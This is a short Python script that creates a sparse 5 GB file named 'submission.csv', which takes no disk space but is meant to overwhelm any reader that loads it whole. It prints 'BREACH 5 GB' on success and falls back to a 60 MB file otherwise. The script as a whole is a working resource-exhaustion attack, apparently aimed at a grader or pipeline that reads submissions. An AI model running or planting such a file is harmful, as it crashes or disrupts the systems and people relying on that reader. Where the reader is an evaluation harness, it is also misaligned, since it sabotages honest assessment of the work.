# A file of 5 GB that takes no disk space, against readers that read it whole; then as large as possible.
import os
descriptor = os.open("submission.csv", os.O_CREAT | os.O_RDWR)
try:
    os.ftruncate(descriptor, 5 << 30)
    print("BREACH 5 GB")
except OSError:
    os.ftruncate(descriptor, 60 << 20)
